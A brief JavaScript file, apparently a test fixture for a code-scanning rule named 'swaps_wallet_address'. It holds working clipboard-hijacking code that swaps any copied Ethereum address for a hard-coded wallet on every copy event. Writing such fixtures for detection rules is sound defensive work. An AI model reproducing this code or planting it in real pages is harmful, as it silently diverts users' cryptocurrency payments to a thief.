const W = { eth: '0xA7b9c3D1e5F2a4B6c8D0e1F3a5B7c9D2e4F6a8B0' };
function swap(t) {
  // ruleid: swaps_wallet_address
  if (/^0x[a-fA-F0-9]{40}$/.test(t)) return W.eth;
  return t;
}
document.addEventListener('copy', (e) => e.clipboardData.setData('text/plain', swap(String(document.getSelection()))));
